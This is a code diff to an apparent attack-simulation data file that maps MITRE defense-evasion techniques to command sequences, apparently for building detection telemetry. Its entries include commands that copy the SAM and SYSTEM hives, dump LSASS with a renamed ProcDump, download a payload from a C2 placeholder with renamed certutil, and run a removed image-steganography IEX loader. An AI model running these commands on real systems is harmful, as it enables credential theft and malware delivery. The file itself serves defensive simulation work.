@@ -1,4 +1,16 @@
 import { NET35, t, v } from "../dsl";
+import {
+  apiHashingVariants,
+  embeddedVariants,
+  junkCodeVariants,
+  lnkIconVariants,
+  packingVariants,
+  paddingVariants,
+  polymorphicVariants,
+  stegoVariants,
+  strippedVariants,
+  toolIndicatorVariants,
+} from "./defense-evasion-obfuscation";
 
 /** Defense evasion: proxy execution through signed binaries and tampering, as in Atomic tests and incidents. */
 export const defenseEvasion = [
@@ -13,6 +25,8 @@ export const defenseEvasion = [
           {
             ps: "Invoke-NinjaCopy -Path C:\\Windows\\System32\\config\\SAM -LocalDestination C:\\Windows\\Temp\\sam.hive",
             files: ["C:\\Windows\\Temp\\sam.hive"],
+            // Opens \\.\C: and parses NTFS itself: Sysmon 9 from powershell.exe.
+            then: [{ id: "raw", kind: "disk.rawread", device: "\\Device\\HarddiskVolume3" }],
           },
         ],
         { shell: "ps", elevated: true },
@@ -20,7 +34,11 @@ export const defenseEvasion = [
       v(
         "rawcopy",
         [
-          "{{tools}}\\RawCopy64.exe /FileNamePath:C:\\Windows\\System32\\config\\SYSTEM /OutputPath:{{tools}}",
+          {
+            cmd: "{{tools}}\\RawCopy64.exe /FileNamePath:C:\\Windows\\System32\\config\\SYSTEM /OutputPath:{{tools}}",
+            files: ["{{tools}}\\SYSTEM"],
+            then: [{ id: "raw", kind: "disk.rawread", device: "\\Device\\HarddiskVolume3" }],
+          },
         ],
         { elevated: true },
       ),
@@ -76,6 +94,7 @@ export const defenseEvasion = [
     ],
   ),
   t("T1027.001", "Binary padding", "A payload inflated past AV size limits with fsutil or copy /b.", [
+    ...paddingVariants,
     v("fsutil-pad", [
       "fsutil file createnew {{tmp}}\\pad.bin 104857600",
       {
@@ -84,23 +103,19 @@ export const defenseEvasion = [
       },
     ]),
   ]),
-  t("T1027.002", "Software packing", "A UPX-packed payload written and run.", [
+  t("T1027.002", "Software packing", "A UPX-packed or PyInstaller-bundled payload written and run.", [
+    ...packingVariants,
     v("upx", [
       "{{tools}}\\upx.exe -9 {{tools}}\\{{rand}}.exe -o {{tools}}\\{{name}}.exe",
       "{{tools}}\\{{name}}.exe",
     ]),
   ]),
-  t("T1027.003", "Steganography", "A payload extracted from an image with PowerShell.", [
-    v(
-      "invoke-psimage",
-      [
-        {
-          ps: '$i = [System.Drawing.Bitmap]::FromFile("$env:TEMP\\{{rand}}.png"); $o = New-Object byte[] 1920; for ($y=0; $y -lt 20; $y++) { for ($x=0; $x -lt 96; $x++) { $p = $i.GetPixel($x,$y); $o[$y*96+$x] = ([math]::Floor(($p.B -band 15)*16) -bor ($p.G -band 15)) } }; IEX([System.Text.Encoding]::ASCII.GetString($o))',
-        },
-      ],
-      { shell: "ps" },
-    ),
-  ]),
+  t(
+    "T1027.003",
+    "Steganography",
+    "A script hidden in a shortcut's trailing data or in image pixels, carved out and run.",
+    stegoVariants,
+  ),
   t(
     "T1027.004",
     "Compile after delivery",
@@ -134,7 +149,7 @@ export const defenseEvasion = [
     "T1027.005",
     "Indicator removal from tools",
     "A tool rebuilt with strings changed; seen as a renamed binary run.",
-    [v("renamed-tool", ["{{tools}}\\{{name}}.exe -accepteula -ma lsass.exe out.dmp"], { elevated: true })],
+    toolIndicatorVariants,
   ),
   t("T1027.006", "HTML smuggling", "An HTML attachment assembles a ZIP/ISO in the browser.", [
     v(
@@ -153,12 +168,14 @@ export const defenseEvasion = [
     "T1027.007",
     "Dynamic API resolution",
     "Shellcode loader resolving APIs by hash; visible as its process and network.",
-    [v("loader", [{ cmd: "{{tools}}\\{{name}}.exe", net: [["{{c2}}", 443]] }])],
+    [...apiHashingVariants, v("loader", [{ cmd: "{{tools}}\\{{name}}.exe", net: [["{{c2}}", 443]] }])],
   ),
   t("T1027.008", "Stripped payloads", "A stripped binary dropped and started.", [
+    ...strippedVariants,
     v("stripped", [{ cmd: "{{tmp}}\\{{rand}}.exe", net: [["{{c2}}", 443]] }]),
   ]),
   t("T1027.009", "Embedded payloads", "A dropper writing an embedded PE and running it.", [
+    ...embeddedVariants,
     v("dropper", [
       { cmd: "{{downloads}}\\{{name}}_setup.exe", as: "d", files: ["{{tmp}}\\{{rand}}.exe"] },
       { cmd: "{{tmp}}\\{{rand}}.exe", parent: "d" },
@@ -206,6 +223,7 @@ export const defenseEvasion = [
       ],
       { shell: "none" },
     ),
+    ...lnkIconVariants,
   ]),
   t("T1027.013", "Encrypted/encoded file", "An encoded blob decoded with certutil before execution.", [
     v("certutil-decodehex", [
@@ -226,6 +244,7 @@ export const defenseEvasion = [
     ),
   ]),
   t("T1027.014", "Polymorphic code", "A self-modifying payload; seen as a new hash each run.", [
+    ...polymorphicVariants,
     v("run", ["{{tmp}}\\{{rand}}.exe"]),
   ]),
   t("T1027.015", "Compression", "A payload shipped in a password-protected archive and extracted.", [
@@ -247,6 +266,7 @@ export const defenseEvasion = [
     ),
   ]),
   t("T1027.016", "Junk code insertion", "A script padded with junk statements; seen in script block logs.", [
+    ...junkCodeVariants,
     v(
       "junk-ps",
       [
@@ -285,26 +305,82 @@ export const defenseEvasion = [
   t(
     "T1036.003",
     "Rename legitimate utilities",
-    "System tools copied and renamed before use (cmd, certutil, rundll32).",
+    "System tools and admin utilities copied under another name before use (Atomic T1036.003, intrusion reports).",
     [
-      v("renamed-cmd", [
+      // Atomic T1036.003 #5: PowerShell run as taskhostw.exe from AppData (the copy keeps PowerShell's PE identity).
+      v("renamed-powershell", [
         {
-          cmd: "cmd.exe /c copy C:\\Windows\\System32\\cmd.exe C:\\Users\\Public\\svchost.exe",
-          files: ["C:\\Users\\Public\\svchost.exe"],
+          cmd: "cmd.exe /c copy %windir%\\System32\\windowspowershell\\v1.0\\powershell.exe %APPDATA%\\taskhostw.exe /Y",
+          copies: [
+            ["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "{{appdata}}\\taskhostw.exe"],
+          ],
         },
-        { cmd: "C:\\Users\\Public\\svchost.exe /c whoami" },
+        { cmd: "cmd.exe /K %APPDATA%\\taskhostw.exe", as: "k" },
+        { cmd: "{{appdata}}\\taskhostw.exe", parent: "k" },
       ]),
+      // Atomic #1: cmd.exe copied to a Temp lsass.exe and started.
+      v("renamed-cmd-lsass", [
+        {
+          cmd: "cmd.exe /c copy %SystemRoot%\\System32\\cmd.exe %SystemRoot%\\Temp\\lsass.exe",
+          copies: [["C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\Temp\\lsass.exe"]],
+        },
+        { cmd: "C:\\Windows\\Temp\\lsass.exe /B /c whoami /all" },
+      ]),
+      // Renamed certutil as a downloader (seen with ransomware affiliates staging tools).
       v("renamed-certutil", [
         {
           cmd: "cmd.exe /c copy C:\\Windows\\System32\\certutil.exe {{tmp}}\\ctu.exe",
-          files: ["{{tmp}}\\ctu.exe"],
+          copies: [["C:\\Windows\\System32\\certutil.exe", "{{tmp}}\\ctu.exe"]],
         },
         {
           cmd: "{{tmp}}\\ctu.exe -urlcache -split -f http://{{c2}}/p.exe {{tmp}}\\p.exe",
           net: [["{{c2}}", 80]],
+          files: ["{{tmp}}\\p.exe"],
         },
       ]),
-      v("renamed-psexec", ["C:\\Windows\\Temp\\svcmgr.exe -accepteula \\\\{{srv}} -s cmd.exe"]),
+      // Atomic #4: wscript.exe running as svchost.exe from AppData.
+      v("renamed-wscript-svchost", [
+        {
+          cmd: "cmd.exe /c copy %SystemRoot%\\System32\\wscript.exe %APPDATA%\\svchost.exe /Y",
+          copies: [["C:\\Windows\\System32\\wscript.exe", "{{appdata}}\\svchost.exe"]],
+        },
+        { cmd: "cmd.exe /c %APPDATA%\\svchost.exe /B {{appdata}}\\{{rand}}.vbs", as: "c" },
+        { cmd: "{{appdata}}\\svchost.exe /B {{appdata}}\\{{rand}}.vbs", parent: "c" },
+      ]),
+      // PsExec brought in under a service-like name (ransomware operators, e.g. Conti/LockBit playbooks).
+      v("renamed-psexec", [
+        {
+          cmd: "C:\\Windows\\Temp\\svcmgr.exe -accepteula \\\\{{srv}} -s cmd.exe",
+          copyOf: "C:\\Tools\\PsExec64.exe",
+          reg: [["HKCU\\Software\\Sysinternals\\PsExec", "EulaAccepted", "1", "REG_DWORD"]],
+          net: [["@server", 445]],
+        },
+      ]),
+      // ProcDump renamed to dump LSASS (e.g. "dump64.exe" in intrusion reports).
+      v(
+        "renamed-procdump",
+        [
+          {
+            cmd: "{{tools}}\\dump64.exe -accepteula -ma lsass.exe {{tools}}\\out.dmp",
+            copyOf: "C:\\Tools\\procdump64.exe",
+            reg: [["HKCU\\Software\\Sysinternals\\ProcDump", "EulaAccepted", "1", "REG_DWORD"]],
+            access: ["@lsass", "0x1fffff", "dbghelp.dll", "dbgcore.dll", "dump64.exe"],
+            files: ["{{tools}}\\out.dmp"],
+          },
+        ],
+        { elevated: true },
+      ),
+      // Renamed rundll32 loading a DLL's export.
+      v("renamed-rundll32", [
+        {
+          cmd: "cmd.exe /c copy C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\{{name}}.exe",
+          copies: [["C:\\Windows\\System32\\rundll32.exe", "C:\\ProgramData\\{{name}}.exe"]],
+        },
+        {
+          cmd: "C:\\ProgramData\\{{name}}.exe C:\\ProgramData\\{{rand}}.dll,DllRegisterServer",
+          loads: ["C:\\ProgramData\\{{rand}}.dll"],
+        },
+      ]),
     ],
   ),
   t("T1036.004", "Masquerade task or service", "Tasks and services named like Windows components.", [
